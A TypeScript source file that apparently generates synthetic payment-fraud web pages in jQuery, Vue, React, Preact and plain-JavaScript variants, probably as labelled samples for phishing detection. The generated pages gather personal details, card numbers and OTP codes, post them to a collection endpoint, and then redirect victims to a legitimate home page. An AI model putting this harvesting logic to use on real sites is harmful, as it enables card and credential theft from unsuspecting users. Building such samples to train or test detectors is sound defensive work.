import type { Chance } from '../make/chance.ts'
import type { Made } from '../make/envelope.ts'
import { type LibraryName, library, libraryText, ownScript } from '../make/libraries.ts'
import { fraudPage } from '../make/made.ts'
import { escaped } from '../make/pages/layout.ts'
import { claimOf, documentOf } from './dress.ts'
import { type Field, lookOf } from './fields.ts'
import { type Scene, sceneOf } from './scene.ts'
import { anySink, cardCode, endOf, farSink, takerOf } from './sends.ts'
import { cardName } from './served.ts'

/** b: all steps stand in one document, and jQuery shows one after the other. */
export function jquerySteps(chance: Chance): Made {
  const scene = sceneOf(['', '', 'index.html', 'index.php', 'pay.html', 'home.php'], chance)
  const { labels } = scene
  const look = lookOf(chance)
  const [step, next] = [chance.of(['step', 'page', 'panel', 'screen']), chance.of(['next', 'go', 'btn-next'])]
  const hide = (index: number) => (index === 1 ? '' : ' style="display:none"')
  const box = (index: number, inner: string) =>
    `<div class="${step}" id="${step}${index}"${hide(index)}>${inner}</div>`
  const button = (text: string, type = 'button') =>
    `<button type="${type}" class="btn btn-primary ${next}">${escaped(text)}</button>`
  const form = (id: string, fields: readonly Field[], text: string) =>
    `<form id="${id}" autocomplete="off">${look(fields)}${button(text, 'submit')}</form>`
  const [one, two, three] = [
    chance.of(['f1', 'personal', 'infoForm']),
    chance.of(['f2', 'cardForm', 'pay']),
    'f3',
  ]
  const hasCode = chance.maybe(0.5)
  const code: Field = {
    name: chance.of(['otp', 'sms', 'code']),
    label: chance.of(['SMS', 'OTP', 'SMS / OTP']),
    type: 'tel',
    more: { maxlength: '8' },
  }
  const steps = [
    box(1, `${claimOf(scene, chance)}${button(scene.button)}`),
    box(2, `<h2>${escaped(labels.personal)}</h2>${form(one, scene.person, labels.next)}`),
    box(
      3,
      `<h2>${escaped(labels.payment)}</h2><p>${escaped(scene.amount)}</p>${form(two, scene.card, scene.button)}`,
    ),
    box(4, `<div class="loader"></div><p id="msg">${escaped(labels.wait)}</p>`),
    ...(hasCode ? [box(5, form(three, [code], labels.next))] : []),
  ].join('\n')
  const taker = takerOf(chance)
  const data = chance.of([`$("#${one},#${two}").serialize()`, `$("form").serialize()`])
  const show = `function show(n){$(".${step}").hide();$("#${step}"+n).${chance.of(['show()', 'fadeIn(300)', 'css("display","block")'])};window.scrollTo(0,0)}`
  const early = chance.maybe(0.4) ? `$.post("${taker}",$(this).serialize());` : ''
  const wait = 1500 + chance.below(35) * 100
  const end = hasCode ? 'show(5)' : endOf(scene, 'msg', chance)
  const last = hasCode
    ? `$("#${three}").on("submit",function(e){e.preventDefault();$.ajax({url:"${taker}",type:"POST",data:$(this).serialize()});show(4);${endOf(scene, 'msg', chance)}});`
    : ''
  const app = `${show}
$(${chance.of(['function(){', 'document).ready(function(){'])}
$("#${step}1 .${next}").click(function(){show(2)});
$("#${one}").on("submit",function(e){e.preventDefault();${early}show(3)});
$("#${two}").submit(function(e){e.preventDefault();show(4);$.ajax({${chance.of(['type', 'method'])}:"POST",url:"${taker}",data:${data},${chance.of(['success', 'complete'])}:function(){setTimeout(function(){${end}},${wait})}})});
${last}});
${cardCode(cardName(scene), chance)}`
  const jquery = library('jquery', scene.url, chance)
  const file = chance.maybe(0.35)
    ? ownScript(scene.url, chance.of(['js/main.js', 'script.js', 'assets/js/app.js']), app)
    : null
  const isAtEnd = chance.maybe(0.6)
  const scripts = `${isAtEnd ? jquery.tag : ''}${file?.tag ?? `<script>${app}</script>`}`
  const head = isAtEnd ? '' : jquery.tag
  const main = `<main class="container">${steps}</main>`
  const body = documentOf(scene, { main, head, scripts }, chance)
  return fraudPage(scene.url, body, [jquery.resource, ...(file === null ? [] : [file.resource])])
}

interface Bundle {
  readonly libraries: readonly LibraryName[]
  readonly app: string
}

/** The texts and fields that a bundle draws, as JSON. */
function dataOf(scene: Scene): string {
  const short = ({ name, label, type }: Field) => ({ n: name, l: label, t: type })
  const { labels, body } = scene
  return JSON.stringify({
    name: scene.name,
    home: body.home,
    title: scene.heading,
    text: scene.text,
    amount: scene.amount,
    ref: [labels.ref, scene.reference],
    go: scene.button,
    next: labels.next,
    wait: labels.wait,
    heads: [labels.personal, labels.payment],
    steps: [scene.person.map(short), scene.card.map(short)],
    links: [labels.privacy, labels.imprint, labels.contact],
    rights: labels.rights,
  }).replaceAll('</', '<\\/')
}

const sinkOf = (chance: Chance) => (chance.maybe(0.3) ? farSink('d', chance) : anySink('d', chance))
const leave = (chance: Chance) => `setTimeout(()=>{location.href=c.home},${2000 + chance.below(40) * 100})`

type Bundler = (scene: Scene, root: string, chance: Chance) => Bundle

const vue: Bundler = (scene, root, chance) => ({
  libraries: ['vue'],
  app: `(()=>{const c=${dataOf(scene)};
Vue.createApp({data(){return{c,step:0,busy:false,form:{}}},mounted(){document.title=c.name},methods:{async go(){if(this.step<2){this.step++;return}this.busy=true;const d=Object.assign({},this.form);try{await ${sinkOf(chance)}}catch(e){}${leave(chance)}}},
template:${JSON.stringify(
    `<header class="hd"><a :href="c.home">{{c.name}}</a></header><main><section v-if="busy"><i class="loader"></i><p>{{c.wait}}</p></section><section v-else-if="step===0"><h1>{{c.title}}</h1><p>{{c.text}}</p><p>{{c.ref[0]}}: {{c.ref[1]}}</p><strong>{{c.amount}}</strong><button @click="go">{{c.go}}</button></section><form v-else @submit.prevent="go"><h2>{{c.heads[step-1]}}</h2><label v-for="f in c.steps[step-1]" :key="f.n">{{f.l}}<input v-model="form[f.n]" :name="f.n" :type="f.t" required></label><button>{{step===2?c.go:c.next}}</button></form></main><footer><a v-for="l in c.links" :href="c.home">{{l}}</a><p>{{c.rights}}</p></footer>`,
  ).replaceAll('</', '<\\/')}}).mount("#${root}")})();`,
})

const react: Bundler = (scene, root, chance) => ({
  libraries: ['react', 'reactDom'],
  app: `(()=>{const c=${dataOf(scene)},h=React.createElement;
function Fields({list}){return list.map(f=>h("div",{className:"field",key:f.n},h("label",{htmlFor:f.n},f.l),h("input",{id:f.n,name:f.n,type:f.t,required:true})))}
function App(){const[s,set]=React.useState(${chance.of(['0', '0', '1'])}),all=React.useRef({});React.useEffect(()=>{document.title=c.title},[]);
const send=async e=>{e.preventDefault();Object.assign(all.current,Object.fromEntries(new FormData(e.target)));if(s===1){set(2);return}const d=all.current;set(3);try{await ${sinkOf(chance)}}catch(x){}${leave(chance)}};
return h("div",{className:"layout"},h("header",null,h("a",{href:c.home},c.name)),s===0?h("main",null,h("h1",null,c.title),h("p",null,c.text),h("b",null,c.amount),h("button",{onClick:()=>set(1)},c.go)):s===3?h("p",{className:"loading"},c.wait):h("form",{key:s,onSubmit:send},h("h2",null,c.heads[s-1]),h(Fields,{list:c.steps[s-1]}),h("button",{type:"submit"},s===2?c.go:c.next)),h("footer",null,c.links.map(l=>h("a",{key:l,href:c.home},l)),h("p",null,c.rights)))}
ReactDOM.createRoot(document.getElementById("${root}")).render(h(App))})();`,
})

const preact: Bundler = (scene, root, chance) => ({
  libraries: ['htm'],
  app: `(()=>{const{html,render,useState}=htmPreact,c=${dataOf(scene)};
const App=()=>{const[busy,set]=useState(false);const send=e=>{e.preventDefault();const d=Object.fromEntries(new FormData(e.target));set(true);${sinkOf(chance)}.finally(()=>{${leave(chance)}})};
return html\`<header><a href=\${c.home}>\${c.name}<//></header><main><h1>\${c.title}</h1><p>\${c.text}</p><p class="sum">\${c.amount}</p>\${busy?html\`<p>\${c.wait}</p>\`:html\`<form onSubmit=\${send}>\${c.steps.map((s,i)=>html\`<fieldset><legend>\${c.heads[i]}</legend>\${s.map(f=>html\`<label>\${f.l}<input name=\${f.n} type=\${f.t} /></label>\`)}</fieldset>\`)}<button>\${c.go}</button></form>\`}</main><footer>\${c.links.map(l=>html\`<a href=\${c.home}>\${l}</a>\`)}<p>\${c.rights}</p></footer>\`};
document.title=c.title;render(html\`<\${App} />\`,document.getElementById("${root}"))})();`,
})

/** As small bundles without a library are. */
const bare: Bundler = (scene, root, chance) => ({
  libraries: [],
  app: `(function(){const c=${dataOf(scene)};const h=(t,p,...k)=>{const n=document.createElement(t);for(const a in p)a.startsWith("on")?n.addEventListener(a.slice(2),p[a]):n.setAttribute(a,p[a]);n.append(...k.flat());return n};
const root=document.getElementById("${root}"),d={};let at=${chance.of(['0', '0', '1'])};
const page=()=>at===0?[h("h1",{},c.title),h("p",{},c.text),h("p",{class:"amount"},c.amount),h("button",{onclick:()=>{at=1;draw()}},c.go)]:at>2?[h("div",{class:"loader"}),h("p",{},c.wait)]:[h("h2",{},c.heads[at-1]),h("form",{onsubmit:next},c.steps[at-1].map(f=>h("div",{class:"row"},h("label",{for:f.n},f.l),h("input",{id:f.n,name:f.n,type:f.t,required:""}))),h("button",{type:"submit"},at===2?c.go:c.next))];
async function next(e){e.preventDefault();new FormData(e.target).forEach((v,k)=>{d[k]=v});at++;draw();if(at<3)return;try{await ${sinkOf(chance)}}catch(x){}${leave(chance)}}
function draw(){root.replaceChildren(h("header",{},h("a",{href:c.home},c.name)),h("main",{},page()),h("footer",{},c.links.map(l=>h("a",{href:c.home},l)),h("p",{},c.rights)))}
document.title=c.name;draw()})();`,
})

/** c: a document with next to nothing in it, and a bundle that draws the steps. */
export function bundled(chance: Chance): Made {
  const scene = sceneOf(['', '', '', '', 'index.html', '#/', '#/home'], chance)
  const root = chance.of(['app', 'app', 'root', 'root', '__nuxt', 'main'])
  const { libraries, app } = chance.of([vue, vue, react, preact, bare, bare])(scene, root, chance)
  const file = chance.of([
    `assets/index-${chance.base64(8).replace(/[+/]/g, '_')}.js`,
    `static/js/main.${chance.hex(8)}.js`,
    `js/app.${chance.hex(8)}.js`,
    `assets/index.${chance.hex(8)}.js`,
  ])
  const title = chance.of([scene.name, scene.heading, 'Loading...', 'Vite App', scene.labels.services])
  const isTogether = libraries.length === 0 || chance.maybe(0.6)
  const place = `${chance.maybe(0.3) ? '<noscript>You need to enable JavaScript to run this app.</noscript>' : ''}<div id="${root}"></div>`
  if (isTogether) {
    const type = libraries.length === 0 ? ' type="module" crossorigin' : ' defer'
    const code = [...libraries.map(libraryText), app].join(';\n')
    const { tag, resource } = ownScript(scene.url, file, code, type)
    return fraudPage(scene.url, documentOf(scene, { main: place, head: tag, isBare: true, title }, chance), [
      resource,
    ])
  }
  const loaded = libraries.map((name) => library(name, scene.url, chance))
  const own = ownScript(scene.url, file, app)
  const scripts = [...loaded, own].map(({ tag }) => tag).join('\n')
  return fraudPage(
    scene.url,
    documentOf(scene, { main: place, scripts, isBare: true, title }, chance),
    [...loaded, own].map(({ resource }) => resource),
  )
}
